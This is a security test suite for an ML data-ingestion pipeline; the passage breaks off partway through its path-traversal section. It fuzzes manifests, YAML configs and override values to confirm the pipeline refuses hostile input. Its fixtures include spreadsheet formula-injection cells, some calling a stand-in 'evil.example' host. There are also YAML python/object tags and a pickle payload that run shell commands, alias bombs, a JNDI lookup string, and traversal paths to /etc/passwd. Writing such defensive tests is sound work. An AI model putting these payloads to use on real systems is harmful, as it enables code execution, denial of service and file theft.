"""Hostile input (issue 9): manifests, ImageFolder trees, config files, `--set` values and
checkpoints written by someone who wants the pipeline to crash, hang, leak a file from outside
the dataset root, or run their code.

What every test here holds the pipeline to:

- reading ends in exactly one of two ways: a snapshot (or config) where every bad row is
  quarantined with a reason and `rows_in == kept + quarantined + duplicates`, or an
  `MlpipeError` with a one-line message. Any other exception is a failure, and that is what
  hypothesis hunts for;
- nothing outside the dataset root is opened (an audit hook sees every `open`), and the
  pixels of a secret image outside the root never reach a snapshot;
- nothing runs: no process is started, no pickle class is looked up (both are audit events),
  and canary files that a payload would create never appear;
- YAML is loaded safely, `torch.load` only with `weights_only=True`, pickle never (a static
  scan of the code, plus crafted payloads at each load site).

Sections: 1 manifest reader fuzz, 2 config loader fuzz, 3 path traversal and symlink escapes,
4 untrusted files.
"""

from __future__ import annotations

import ast
import contextlib
import csv
import io
import math
import multiprocessing
import os
import pickle
import posixpath
import resource
import sys
import time
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
import yaml
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from PIL import Image

from mlpipe.config import IngestConfig, PipelineConfig, SourceConfig, load_config
from mlpipe.errors import MlpipeError
from mlpipe.ingest import ROW, ingest, open_source, read_manifest

REPO = Path(__file__).resolve().parents[2]
CFG = IngestConfig(image_size=8, max_drop_fraction=1.0)  # hostile rows are the point here; the drop limit has its own tests
FORMATS = ("csv", "jsonl", "parquet")
FUZZ = settings(max_examples=60, deadline=None, database=None,
                suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])  # fmt: skip

# Cells a spreadsheet would run as a formula, spellings of "not a number", and other trouble.
INJECTION = ["=cmd|' /C calc'!A0", "=1+1", "+1+1", "-1+1", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
             '=HYPERLINK("http://evil.example","x")', "=IMPORTXML(CONCAT(\"http://x/?\",A1),\"//a\")", "＝1+1"]  # fmt: skip
NUMERIC = ["nan", "NaN", "-nan", "inf", "-inf", "Infinity", "-Infinity", "1e999", "-1e999", "1e-999", "NULL",
           "None", "null", "", "N/A", "#N/A", "0x1p1024"]  # fmt: skip
NASTY = ["a\x00b", "\x00", "line\nbreak", "cr\rcr", "crlf\r\n", '"', '""', "'", ",", ";", "\ufeff", "\u202eevil",
         "\u200b", "José", "日本語", "😀", "\\", "%s%n%x", "${jndi:ldap://x/a}", "{{7*7}}", "<script>",
         "!!python/object/apply:os.system ['touch CANARY']"]  # fmt: skip
ESCAPES = ["../outside/secret.png", "..\\outside\\secret.png", "/etc/passwd", "sub/../../outside/secret.png",
           "%2e%2e/outside/secret.png", "link.png", "linkdir/secret.png", "C:\\secret.png", "0.png\x00../x",
           "ok/../../../outside/secret.png"]  # fmt: skip
GOOD = ["0.png", "1.png", "sub/2.png", "José 3.png"]  # real images in every fuzzed root
SECRET_VALUE = 77  # the secret outside the root is an 8x8 image of this one value

cells = st.one_of(st.sampled_from(INJECTION + NUMERIC + NASTY), st.text(max_size=20))
paths = st.one_of(st.sampled_from(GOOD), st.sampled_from(ESCAPES + INJECTION), cells)


def _png(pixels: np.ndarray) -> bytes:
    buf = io.BytesIO()
    Image.fromarray(pixels).save(buf, format="PNG")
    return buf.getvalue()


def _digit(seed: int, size: int = 8) -> np.ndarray:
    return np.random.default_rng(seed).integers(0, 255, (size, size), dtype=np.uint8)


SECRET_PNG = _png(np.full((8, 8), SECRET_VALUE, np.uint8))


# --- watching what the process does ---------------------------------------------------------------

_EVENTS: list[tuple[str, str]] | None = None  # filled only inside `_watch()`
_RUNS = {"os.system", "os.exec", "os.posix_spawn", "os.spawn", "os.fork", "subprocess.Popen", "pickle.find_class"}


def _audit(event: str, args: tuple) -> None:
    if _EVENTS is None:
        return
    if event == "open" and isinstance(args[0], str | bytes | os.PathLike):
        _EVENTS.append((event, os.fsdecode(args[0])))
    elif event in _RUNS:
        _EVENTS.append((event, repr(args)[:200]))


sys.addaudithook(_audit)  # audit hooks stay for the life of the process; this one is idle outside _watch


@contextlib.contextmanager
def _watch():
    """Every file opened (any thread) and every process start or pickle class look-up, meanwhile."""
    global _EVENTS
    _EVENTS = seen = []
    try:
        yield seen
    finally:
        _EVENTS = None


def _assert_nothing_ran(events) -> None:
    ran = [e for e in events if e[0] in _RUNS]
    assert not ran, f"code ran while reading hostile input: {ran}"


def _assert_never_opened(events, outside: Path) -> None:
    outside = os.path.realpath(outside)
    opened = {os.path.realpath(p) for e, p in events if e == "open"}  # through any symlink
    leaked = sorted(p for p in opened if p == outside or p.startswith(outside + os.sep))
    assert not leaked, f"opened outside the dataset root: {leaked}"


def _one_line(err: MlpipeError) -> None:
    message = str(err)
    assert message and len(message.splitlines()) == 1 and "\n" not in message and "\r" not in message


def _ingest_outcome(source: SourceConfig, config: IngestConfig = CFG):
    """The snapshot, or the `MlpipeError`; anything else propagates (and fails the test). A
    snapshot is checked: every row is kept, quarantined with a reason, or a duplicate, once."""
    try:
        result = ingest(source, config)
    except MlpipeError as err:
        _one_line(err)
        return err
    r = result.report
    assert r["rows_in"] == r["kept"] + r["quarantined"] + r["duplicates"]
    assert sum(r["quarantine_reasons"].values()) == r["quarantined"]
    quarantined = pd.read_csv(result.file("quarantine.csv"), keep_default_na=False)
    assert len(quarantined) == r["quarantined"] and (quarantined["reason"].str.len() > 0).all()
    kept = pd.read_parquet(result.file("items.parquet"))[ROW].tolist()
    duplicates = pd.read_csv(result.file("duplicates.csv"))["row"].tolist()
    rows = kept + quarantined["row"].tolist() + duplicates
    assert sorted(rows) == list(range(r["rows_in"])), "a row is missing or counted twice"
    pixels = np.load(result.file("pixels.npy"), mmap_mode="r")
    assert not any((pixels[i] == SECRET_VALUE).all() for i in kept), "the secret's pixels are in the snapshot"
    _assert_no_formula_cells(Path(result.path))
    return result


def _is_formula(cell: str) -> bool:
    """What Excel, LibreOffice and Sheets would evaluate: a leading = + - @ (or tab/CR before
    one), unless the cell is a plain number such as -1."""
    if not cell or cell[0] not in "=+-@\t\r\n":
        return False
    try:
        float(cell)
        return False
    except ValueError:
        return True


def _assert_no_formula_cells(folder: Path) -> None:
    for path in sorted(Path(folder).rglob("*.csv")):
        with open(path, newline="", encoding="utf-8") as f:
            bad = [cell for row in csv.reader(f) for cell in row if _is_formula(cell)]
        assert not bad, f"{path.name} holds cells a spreadsheet runs as formulas: {bad[:3]}"


# --- fixtures ---------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def hostile_root(tmp_path_factory) -> Path:
    """`base/d`: GOOD images, `link.png` and `linkdir` pointing out of the root; `base/outside`:
    the secret image. Fuzz tests write their manifests into `base/d`."""
    base = tmp_path_factory.mktemp("hostile")
    (base / "outside").mkdir()
    (base / "outside" / "secret.png").write_bytes(SECRET_PNG)
    root = base / "d"
    for i, rel in enumerate(GOOD):
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_bytes(_png(_digit(i)))
    os.symlink("../outside/secret.png", root / "link.png")
    os.symlink(base / "outside", root / "linkdir")
    return root


def _write_manifest(root: Path, fmt: str, frame: pd.DataFrame) -> str:
    name = f"m.{fmt}"
    if fmt == "csv":  # every field quoted: a bare CR inside a cell would otherwise end the row
        frame.to_csv(root / name, index=False, quoting=csv.QUOTE_ALL)
    elif fmt == "jsonl":
        frame.to_json(root / name, orient="records", lines=True)
    else:
        frame.to_parquet(root / name, index=False)
    return name


def _kept_paths(result, source: SourceConfig) -> list[str]:
    frame, _ = read_manifest(open_source(source), source)
    kept = pd.read_parquet(result.file("items.parquet"))[ROW]
    return frame[source.image_column].iloc[kept].tolist()


def _normal(path: str) -> str:
    return posixpath.normpath(path.replace("\\", "/"))


# ===================================================================================================
# 1. Manifest reader fuzz
# ===================================================================================================


@st.composite
def manifests(draw):
    """A table of rows over GOOD images, escapes, injection strings and NaN/inf, with hostile
    column names: (format, frame)."""
    fmt = draw(st.sampled_from(FORMATS))
    names = draw(st.lists(st.sampled_from(INJECTION + NASTY[:12] + ["label", "annotator_1", "age"])
                          | st.text(min_size=1, max_size=8), unique=True, max_size=4))  # fmt: skip
    names = [n for n in names if n != "image" and not n.startswith(("__", "Unnamed")) and n.strip("\x00")]
    n = draw(st.integers(1, 10))
    frame = pd.DataFrame({"image": draw(st.lists(paths, min_size=n, max_size=n))})
    for name in names:
        frame[name] = draw(st.lists(cells, min_size=n, max_size=n))
    frame["score"] = draw(st.lists(st.floats(allow_nan=True, allow_infinity=True), min_size=n, max_size=n))
    return fmt, frame


_EVERY_ESCAPE = pd.DataFrame({"image": GOOD + ESCAPES, "label": (INJECTION + NUMERIC)[: len(GOOD + ESCAPES)],
                              "score": [math.nan, math.inf, -math.inf, 0.5] * 3 + [1.0, 2.0]})  # fmt: skip


@FUZZ
@given(case=manifests())
@example(case=("csv", _EVERY_ESCAPE))
@example(case=("jsonl", _EVERY_ESCAPE))
@example(case=("parquet", _EVERY_ESCAPE))
def test_fuzzed_manifest_rows_are_kept_or_quarantined_never_crash(state, hostile_root, case):
    fmt, frame = case
    source = SourceConfig(uri=str(hostile_root), manifest=_write_manifest(hostile_root, fmt, frame))
    with _watch() as events:
        outcome = _ingest_outcome(source)
    _assert_nothing_ran(events)
    _assert_never_opened(events, hostile_root.parent / "outside")
    exact_good = frame["image"].isin(GOOD)
    if isinstance(outcome, MlpipeError):
        assert not exact_good.any(), f"a manifest with usable rows was refused: {outcome}"
        return
    assert outcome.report["rows_in"] == len(frame)
    assert all(_normal(p) in GOOD for p in _kept_paths(outcome, source)), "a row outside the real images was kept"
    quarantined = set(pd.read_csv(outcome.file("quarantine.csv"))["row"])
    assert not quarantined & set(np.flatnonzero(exact_good)), "a valid row was quarantined"


def _valid_manifest_bytes(fmt: str) -> bytes:
    frame = pd.DataFrame({"image": GOOD + ["../outside/secret.png"], "label": ["a", "b", "=1+1", "nan", "x"]})
    buf = io.BytesIO()
    {"csv": lambda: frame.to_csv(buf, index=False), "jsonl": lambda: frame.to_json(buf, orient="records", lines=True),
     "parquet": lambda: frame.to_parquet(buf, index=False)}[fmt]()  # fmt: skip
    return buf.getvalue()


VALID_BYTES = {fmt: _valid_manifest_bytes(fmt) for fmt in FORMATS}


@st.composite
def manifest_bytes(draw):
    """(format, bytes): random bytes, or a valid manifest with bytes flipped, cut or spliced in."""
    fmt = draw(st.sampled_from(FORMATS))
    base = bytearray(VALID_BYTES[fmt])
    how = draw(st.sampled_from(["random", "flip", "truncate", "splice"]))
    if how == "random":
        return fmt, draw(st.binary(max_size=2048))
    if how == "truncate":
        return fmt, bytes(base[: draw(st.integers(0, len(base)))])
    if how == "splice":
        at = draw(st.integers(0, len(base)))
        return fmt, bytes(base[:at] + draw(st.binary(min_size=1, max_size=64)) + base[at:])
    for at, value in draw(st.lists(st.tuples(st.integers(0, len(base) - 1), st.integers(0, 255)), min_size=1, max_size=8)):
        base[at] = value
    return fmt, bytes(base)


@FUZZ
@given(case=manifest_bytes())
def test_random_and_mutated_manifest_bytes_are_read_or_refused_in_one_line(state, hostile_root, case):
    fmt, data = case
    (hostile_root / f"m.{fmt}").write_bytes(data)
    source = SourceConfig(uri=str(hostile_root), manifest=f"m.{fmt}")
    with _watch() as events:
        outcome = _ingest_outcome(source)
    _assert_nothing_ran(events)
    _assert_never_opened(events, hostile_root.parent / "outside")
    if not isinstance(outcome, MlpipeError):
        assert all(_normal(p) in GOOD for p in _kept_paths(outcome, source))


ENCODINGS = ["utf-16", "utf-16-le", "utf-16-be", "utf-32", "latin-1", "cp1252", "shift_jis", "utf-7", "utf-8-sig"]


@FUZZ
@given(encoding=st.sampled_from(ENCODINGS), extra=st.lists(st.text(max_size=12), max_size=4))
def test_manifests_in_other_encodings_are_read_or_refused(state, hostile_root, encoding, extra):
    text = "image,label\n" + "".join(f"{p},{e}\n" for p, e in zip(GOOD, extra + ["a"] * 4, strict=False))
    (hostile_root / "m.csv").write_bytes(text.encode(encoding, errors="replace"))
    outcome = _ingest_outcome(SourceConfig(uri=str(hostile_root), manifest="m.csv"))
    if not isinstance(outcome, MlpipeError):
        assert all(_normal(p) in GOOD for p in _kept_paths(outcome, SourceConfig(uri=str(hostile_root), manifest="m.csv")))


def _parquet(table) -> bytes:
    import pyarrow.parquet as pq

    buf = io.BytesIO()
    pq.write_table(table, buf)
    return buf.getvalue()


def _invalid_utf8_parquet() -> bytes:
    import pyarrow as pa

    raw = pa.array([b"0.png", b"x\xed\xa0\x80.png", b"\xff.png"], type=pa.binary())
    return _parquet(pa.table({"image": raw.cast(pa.string(), safe=False)}))  # strings Arrow never checked


def _pandas_metadata_parquet(meta: bytes) -> bytes:
    import pyarrow as pa

    return _parquet(pa.table({"image": GOOD}).replace_schema_metadata({b"pandas": meta}))


BIG = 10 * 1024 * 1024
# name -> (manifest file name, bytes, expected): "refused" (an MlpipeError), or the report's
# (kept, quarantine reasons) for a manifest that is read.
SPECIAL = {
    "utf-16 with BOM": ("m.csv", "image\n0.png\n".encode("utf-16"), "refused"),
    "utf-16 without BOM": ("m.csv", "image\n0.png\n".encode("utf-16-le"), "refused"),
    "latin-1 non-ASCII name": ("m.csv", "image,name\n0.png,José\n".encode("latin-1"), "refused"),
    "invalid utf-8 in a cell": ("m.csv", b"image,name\n0.png,\xc3\x28\n", "refused"),
    "utf-8 BOM": ("m.csv", b"\xef\xbb\xbfimage\n0.png\n1.png\n", (2, {})),
    "10 MB cell": ("m.csv", b"image,note\n0.png," + b"x" * BIG + b"\n1.png,y\n", (2, {})),
    "10 MB quoted cell with commas and newlines": ("m.csv", b'image,note\n0.png,"' + b",\n" * (BIG // 2) + b'"\n', (1, {})),
    "1M-char path": ("m.csv", b"image\n0.png\n" + b"a" * 1_000_000 + b"\n",
                     (1, {"invalid manifest row (path length 1-4096)": 1})),
    "1M-char traversal": ("m.csv", b"image\n0.png\n" + b"../" * 333_334 + b"\n",
                          (1, {"invalid manifest row (path length 1-4096)": 1})),
    "5,000 columns": ("m.csv", (",".join(["image"] + [f"c{i}" for i in range(5_000)]) + "\n"
                                + ",".join(["0.png"] + ["=1+1"] * 5_000) + "\n").encode(), (1, {})),
    "NUL in the path": ("m.csv", b"image\n0.png\n1.png\x00../../outside/secret.png\n",
                        (1, {"invalid manifest row (no NUL byte)": 1})),
    "NUL in other cells and the header": ("m.csv", b"image,n\x00te\n0.png,\x00\x00\n", (1, {})),
    "CR line ends": ("m.csv", b"image\r0.png\r1.png\r", (2, {})),
    "NaN and inf as path text": ("m.csv", b"image\n0.png\nnan\ninf\n-inf\n", (1, {"missing file": 3})),
    "50,000 escaping rows": ("m.csv", b"image\n0.png\n" + b"../outside/secret.png\n" * 50_000,
                             (1, {"path escapes the dataset root": 50_000})),
    "reserved column name": ("m.csv", b"image,__row\n0.png,1\n", "refused"),
    "JSON NaN/Infinity literals": ("m.jsonl", b'{"image": NaN}\n{"image": Infinity}\n{"image": "0.png", "s": -Infinity}\n',
                                   (1, {"invalid manifest row (path length 1-4096)": 1, "missing file": 1})),
    "JSON 30-digit integer": ("m.jsonl", b'{"image": "0.png", "n": 123456789012345678901234567890}\n', (1, {})),  # text, as in CSV
    "JSON nested 100,000 deep": ("m.jsonl", b'{"image": "0.png", "n": ' + b"[" * 100_000 + b"]" * 100_000 + b"}\n", "refused"),
    "JSON lone surrogate": ("m.jsonl", b'{"image": "0.png\\udc80"}\n', "refused"),
    "JSON scalars, not records": ("m.jsonl", b'"0.png"\n1\nnull\n', "refused"),
    "parquet NaN/inf image column": ("m.parquet", _parquet(__import__("pyarrow").table({"image": [math.nan, math.inf, -math.inf]})),
                                     "refused"),
    "parquet invalid UTF-8 strings": ("m.parquet", _invalid_utf8_parquet(), "refused"),
    "parquet pandas metadata without keys": ("m.parquet", _pandas_metadata_parquet(b"{}"), "refused"),
    "parquet pandas metadata of the wrong type": ("m.parquet", _pandas_metadata_parquet(b"[]"), "refused"),
    "parquet pandas metadata with a bogus dtype": ("m.parquet", _pandas_metadata_parquet(
        b'{"index_columns": [], "columns": [{"name": "image", "field_name": "image", "pandas_type": "x", '
        b'"numpy_type": "swB", "metadata": null}]}'), (2, {"missing file": 2})),  # the Arrow data is fine: read
    "pickle under a manifest name": ("m.csv", b"\x80\x02cposix\nsystem\nq\x00X\x0c\x00\x00\x00touch CANARYq\x01\x85q\x02Rq\x03.",
                                     "refused"),
}  # fmt: skip


@pytest.mark.parametrize("name", list(SPECIAL))
def test_wrong_encodings_huge_fields_and_odd_values(state, tmp_path, name):
    manifest, data, expected = SPECIAL[name]
    root = tmp_path / "d"
    root.mkdir()
    for i in range(2):
        (root / f"{i}.png").write_bytes(_png(_digit(i)))
    (tmp_path / "outside").mkdir()
    (tmp_path / "outside" / "secret.png").write_bytes(SECRET_PNG)
    (root / manifest).write_bytes(data)
    with _watch() as events:
        outcome = _ingest_outcome(SourceConfig(uri=str(root), manifest=manifest))
    _assert_nothing_ran(events)
    _assert_never_opened(events, tmp_path / "outside")
    assert not (root / "CANARY").exists() and not Path("CANARY").exists()
    if expected == "refused":
        assert isinstance(outcome, MlpipeError), f"read, but should be refused: {getattr(outcome, 'report', None)}"
    else:
        assert not isinstance(outcome, MlpipeError), f"refused: {outcome}"
        assert (outcome.report["kept"], outcome.report["quarantine_reasons"]) == expected


# --- CSV injection in what the pipeline writes ------------------------------------------------------


def _labelled_dataset(root: Path, formula_cells: bool = True) -> SourceConfig:
    """40 images, two classes; labels and subjects are formula strings."""
    root.mkdir(parents=True)
    rows = []
    for i in range(40):
        pixels = _digit(100 + i)
        pixels[(i % 2) * 4 : (i % 2) * 4 + 2] = 250
        (root / f"{i}.png").write_bytes(_png(pixels))
        label = ("=cmd|' /C calc'!A0" if i % 2 else "+SUM(1;2)") if formula_cells else str(i % 2)
        rows.append({"image": f"{i}.png", "subject": f"@s{i}", "label": label, "note": "-2+3"})
    pd.DataFrame(rows).to_csv(root / "manifest.csv", index=False)
    return SourceConfig(uri=str(root))


def _through_label(source: SourceConfig):
    from mlpipe.anonymize import anonymize
    from mlpipe.config import AnonymizeConfig, LabelConfig
    from mlpipe.label import label

    snapshot = ingest(source, CFG)
    policy = {"subject": "keep", "label": "keep", "note": "keep"}
    data = anonymize(snapshot, AnonymizeConfig(policy=policy, k=1), source)
    return snapshot, label(data, LabelConfig(columns=["label"], find_label_issues=False))


def test_ingest_and_label_csv_outputs_carry_no_formula_cells(state, tmp_path):
    """quarantine.csv, duplicates.csv, near_duplicates.csv and review_queue.csv hold row numbers,
    item ids and fixed reasons only: manifest values never reach them."""
    _, labelled = _through_label(_labelled_dataset(tmp_path / "d"))
    assert labelled.report["labelled"] == 40
    written = sorted(p.name for p in state.rglob("*.csv"))
    assert {"quarantine.csv", "duplicates.csv", "review_queue.csv"} <= set(written)
    _assert_no_formula_cells(state)
    for path in state.rglob("*.csv"):
        assert "cmd|" not in path.read_text() and "@s1" not in path.read_text()


def test_split_assignments_csv_neutralizes_formula_cells(state, tmp_path):
    from mlpipe.config import SplitConfig
    from mlpipe.split import split

    _, labelled = _through_label(_labelled_dataset(tmp_path / "d"))
    result = split(labelled, SplitConfig(group_column="subject", tolerance=0.5))
    _assert_no_formula_cells(Path(result.file("assignments.csv")).parent)


# ===================================================================================================
# 2. Config loader fuzz
# ===================================================================================================

DEFAULTS = PipelineConfig().model_dump(mode="json")
KNOWN_KEYS = sorted(f"{s}.{k}" for s, v in DEFAULTS.items() if isinstance(v, dict) for k in v) + [
    "experiment", "anonymize.policy.age", "evaluate.thresholds.macro_f1", "search.grid.train.lr", "nope.nope"]  # fmt: skip
CANARY_NAME = "CANARY_yaml"

scalars = st.one_of(
    st.none(), st.booleans(), st.integers(-(10**30), 10**30), st.floats(allow_nan=True, allow_infinity=True),
    st.text(max_size=16), st.sampled_from(INJECTION + NUMERIC + ["auto", "keep", "drop", "sgd", "small_cnn"]),
)  # fmt: skip
hashable = st.one_of(st.none(), st.booleans(), st.integers(-5, 5), st.floats(allow_nan=False), st.text(max_size=8))
values = st.recursive(scalars, lambda inner: st.lists(inner, max_size=3) | st.dictionaries(hashable, inner, max_size=3),
                      max_leaves=12)  # fmt: skip


def _config_outcome(path: Path | None, sets: list[str] = ()):
    """The config, or the MlpipeError (one line). A config holds no NaN or infinity anywhere
    except in train.augment, albumentations' own policy, which is data for albumentations."""
    with _watch() as events:
        try:
            config = load_config(path, list(sets))
        except MlpipeError as err:
            _one_line(err)
            config = err
    _assert_nothing_ran(events)
    if isinstance(config, PipelineConfig):
        dumped = config.model_dump()
        dumped["train"].pop("augment")
        _assert_finite(dumped)
    return config


def _assert_finite(value, where: str = "config") -> None:
    if isinstance(value, float):
        assert math.isfinite(value), f"{where} = {value} was accepted"
    elif isinstance(value, dict):
        for k, v in value.items():
            _assert_finite(v, f"{where}.{k}")
    elif isinstance(value, list | tuple):
        for v in value:
            _assert_finite(v, where)


def _nest(dotted: str, value):
    out = value
    for part in reversed(dotted.split(".")):
        out = {part: out}
    return out


def _dump(value) -> str:
    return yaml.safe_dump(value, default_flow_style=True, allow_unicode=True).removesuffix("\n...\n").strip()


@FUZZ
@given(entries=st.lists(st.tuples(st.sampled_from(KNOWN_KEYS), values), max_size=4),
       noise=st.dictionaries(hashable, values, max_size=2))  # fmt: skip
def test_fuzzed_config_files_load_or_fail_in_one_line(tmp_path, entries, noise):
    document = dict(noise)
    for dotted, value in entries:
        document.update(_nest(dotted, value))
    path = tmp_path / "c.yaml"
    path.write_text(yaml.safe_dump(document, allow_unicode=True, sort_keys=False), encoding="utf-8")
    _config_outcome(path)


@FUZZ
@given(sets=st.lists(st.tuples(st.sampled_from(KNOWN_KEYS) | st.text(max_size=10), values | st.text(max_size=30))
                     .map(lambda kv: f"{kv[0]}={kv[1] if isinstance(kv[1], str) else _dump(kv[1])}"), max_size=4))  # fmt: skip
def test_fuzzed_set_overrides_load_or_fail_in_one_line(sets):
    _config_outcome(None, sets)


@FUZZ
@given(text=st.text(max_size=300) | st.binary(max_size=300))
def test_random_config_text_and_bytes_load_or_fail_in_one_line(tmp_path, text):
    path = tmp_path / "c.yaml"
    path.write_bytes(text if isinstance(text, bytes) else text.encode("utf-8"))
    _config_outcome(path)


@pytest.mark.parametrize("value", [".nan", ".inf", "-.inf", "1e999"])
@pytest.mark.parametrize("key", ["train.weight_decay", "train.warmup_epochs", "train.grad_clip", "train.lr",
                                 "evaluate.thresholds", "anonymize.policy"])  # fmt: skip
def test_nan_and_infinity_are_refused_in_every_number(key, value):
    setting = {"evaluate.thresholds": f"{{macro_f1: {value}}}",
               "anonymize.policy": f"{{age: {{action: generalize_number, bins: [0, {value}, 10]}}}}"}.get(key, value)  # fmt: skip
    outcome = _config_outcome(None, [f"{key}={setting}"])
    assert isinstance(outcome, MlpipeError), f"{key}={setting} was accepted"


def _tags(canary: Path) -> dict[str, str]:
    return {
        "os.system": f'!!python/object/apply:os.system ["touch {canary}"]',
        "builtins.open": f'!!python/object/apply:builtins.open ["{canary}", "w"]',
        "subprocess": f'!!python/object/apply:subprocess.check_call [["touch", "{canary}"]]',
        "object/new": f'!!python/object/new:pathlib.Path {{args: ["{canary}"]}}',
        "name": "!!python/name:os.system",
        "module": "!!python/module:os",
        "object": "!!python/object:argparse.Namespace {x: 1}",
        "tuple": "!!python/tuple [1, 2]",
        "custom tag": "!evil {x: 1}",
        "binary": "!!binary aGVsbG8=",
    }


TAGS = list(_tags(Path("x")))


@pytest.mark.parametrize("where", ["train.augment", "train", "experiment", "search.grid"])
@pytest.mark.parametrize("tag", TAGS)
def test_yaml_tags_in_a_config_file_are_refused_or_inert(tmp_path, tag, where):
    canary = tmp_path / CANARY_NAME
    payload = _tags(canary)[tag]
    section, _, key = where.partition(".")
    text = f"{section}:\n  {key}: {payload}\n" if key else f"{section}: {payload}\n"
    (tmp_path / "c.yaml").write_text(text)
    outcome = _config_outcome(tmp_path / "c.yaml")
    assert not canary.exists(), "the YAML payload ran"
    if tag not in ("binary",):  # every python/* or unknown tag: refused by safe loading
        assert isinstance(outcome, MlpipeError) and "not valid YAML" in str(outcome), outcome


@pytest.mark.parametrize("key", ["train.augment", "experiment", "source.uri", "train.pretrained"])
@pytest.mark.parametrize("tag", TAGS)
def test_yaml_tags_in_set_values_are_refused_or_inert(tmp_path, tag, key):
    canary = tmp_path / CANARY_NAME
    payload = _tags(canary)[tag]
    outcome = _config_outcome(None, [f"{key}={payload}"])
    assert not canary.exists(), "the YAML payload ran"
    if isinstance(outcome, PipelineConfig):  # a string field keeps the text, as text
        value = outcome.model_dump()
        for part in key.split("."):
            value = value[part]
        assert value == payload or (tag == "binary" and isinstance(value, str))


# --- alias bombs, deep nesting, huge numbers: bounded in time and memory ----------------------------


def _bomb(levels: int = 10, width: int = 10) -> tuple[list[str], str]:
    """Billion laughs: anchor lines, and the alias of the top (width**levels strings expanded)."""
    lines = ['l0: &l0 ["lol", "lol"]']
    lines += [f"l{i}: &l{i} [" + ", ".join([f"*l{i - 1}"] * width) + "]" for i in range(1, levels + 1)]
    return lines, f"*l{levels}"


def _bomb_flow(levels: int = 9, width: int = 10) -> str:
    value = '&a0 ["lol"]'
    for i in range(1, levels + 1):
        value = f"&a{i} [" + ", ".join([value] + [f"*a{i - 1}"] * (width - 1)) + "]"
    return value


def _bomb_file(slot: str) -> str:
    lines, top = _bomb()
    anchors = "\n".join("    " + line for line in lines)
    return {
        "train.augment": f"train:\n  augment:\n{anchors}\n",
        "search.grid": "train:\n  augment: {}\nsearch:\n  grid:\n    train.augment:\n      - x:\n"
                       + "\n".join("          " + line for line in lines) + "\n",
        "top level": "\n".join(lines) + "\n",
        "experiment": f"train:\n  augment:\n{anchors}\nexperiment: {top}\n",
    }[slot]  # fmt: skip


CONTROL = "label:\n  columns: &cols [a1, a2]\nsearch:\n  grid: {}\nanonymize:\n  policy: {a1: keep, a2: keep}\n"
HEAVY = {
    "alias bomb in train.augment": ("file", _bomb_file("train.augment")),
    "alias bomb in search.grid": ("file", _bomb_file("search.grid")),
    "alias bomb at the top level": ("file", _bomb_file("top level")),
    "alias bomb as the experiment name": ("file", _bomb_file("experiment")),
    "alias bomb in --set": ("set", "train.augment={x: " + _bomb_flow() + "}"),
    "recursive alias": ("file", "train:\n  augment: &a {x: *a}\n"),
    "recursive alias in --set": ("set", "train.augment=&a {x: [*a]}"),
    "nesting 20,000 deep": ("file", "train:\n  augment: {x: " + "[" * 20_000 + "]" * 20_000 + "}\n"),
    "mappings 5,000 deep": ("file", "train:\n  augment: " + "{a: " * 5_000 + "1" + "}" * 5_000 + "\n"),
    "nesting 400 deep (parsed, too deep to serialize)": ("file", "train:\n  augment: {x: " + "[" * 400 + "]" * 400 + "}\n"),
    "nesting 20,000 deep in --set": ("set", "train.augment={x: " + "[" * 20_000 + "]" * 20_000 + "}"),
    "5,000-digit integer": ("file", "train:\n  epochs: " + "9" * 5_000 + "\n"),
    "5,000-digit hex integer": ("file", "train:\n  epochs: 0x" + "f" * 5_000 + "\n"),
    "5,000-digit integer in --set": ("set", "train.epochs=" + "9" * 5_000),
}


def _load_limited(kind: str, text: str, folder: str, conn) -> None:
    """In a forked child: at most 1 GiB more address space, then load and report."""
    with open("/proc/self/status") as f:
        size = next(int(line.split()[1]) * 1024 for line in f if line.startswith("VmSize"))
    resource.setrlimit(resource.RLIMIT_AS, (size + (1 << 30), size + (1 << 30)))
    start = time.perf_counter()
    try:
        if kind == "file":
            path = Path(folder) / "c.yaml"
            path.write_text(text)
            load_config(path)
        else:
            load_config(None, [text])
        outcome = "accepted"
    except MlpipeError as err:
        outcome = "refused: " + str(err)[:300]
    except BaseException as err:  # noqa: BLE001 - reported to the parent as the failure it is
        outcome = f"crashed: {type(err).__name__}: {str(err)[:200]}"
    conn.send((outcome, time.perf_counter() - start))


@pytest.mark.parametrize("name", list(HEAVY) + ["control: a small anchor is fine"])
def test_alias_bombs_deep_nesting_and_huge_numbers_are_refused_quickly(tmp_path, name):
    kind, text = HEAVY.get(name, ("file", CONTROL))
    ctx = multiprocessing.get_context("fork")
    receive, send = ctx.Pipe(duplex=False)
    child = ctx.Process(target=_load_limited, args=(kind, text, str(tmp_path), send))
    child.start()
    child.join(30)
    if child.is_alive():
        child.kill()
        child.join()
        pytest.fail(f"{name}: loading the config still ran after 30 s")
    assert receive.poll(), f"{name}: the loader died (exit code {child.exitcode}), out of memory or worse"
    outcome, seconds = receive.recv()
    assert seconds < 10, f"{name}: {seconds:.1f} s"
    if name.startswith("control"):
        assert outcome == "accepted", outcome
    else:
        assert outcome.startswith("refused: "), outcome
        assert "\n" not in outcome


def test_a_huge_set_value_is_inert_text(tmp_path):
    outcome = _config_outcome(None, ["experiment=" + "=cmd|' /C calc'!A0" * 20_000])
    assert isinstance(outcome, PipelineConfig) and outcome.experiment.startswith("=cmd")  # data, not a formula run


# ===================================================================================================
# 3. Path traversal and symlink escapes
# ===================================================================================================
# tests/unit/test_ingest.py already covers "../outside.png", "sub/../../outside.png", an absolute
# path to an existing outside file, a file symlink out of the root and a symlinked folder out of
# it (test_missing_absolute_escaping_and_oversized_rows, test_a_symlink_out_of_the_root_..., and
# test_a_symlinked_folder_out_of_the_root_is_refused). These extend them to other spellings, to
# symlink chains, loops and relative targets, and to the ImageFolder layout, and check with an
# audit hook that the outside file is never even opened.

ESCAPING, ABSOLUTE, MISSING = "path escapes the dataset root", "absolute path", "missing file"
MANIFEST_PATHS = {
    "../../etc/passwd": ESCAPING,
    "/etc/passwd": ABSOLUTE,
    "//etc/passwd": ABSOLUTE,
    "C:\\Windows\\win.ini": ABSOLUTE,
    "c:/outside/secret.png": ABSOLUTE,
    "\\\\server\\share\\secret.png": ABSOLUTE,
    "\\..\\outside\\secret.png": ABSOLUTE,
    "..\\outside\\secret.png": ESCAPING,
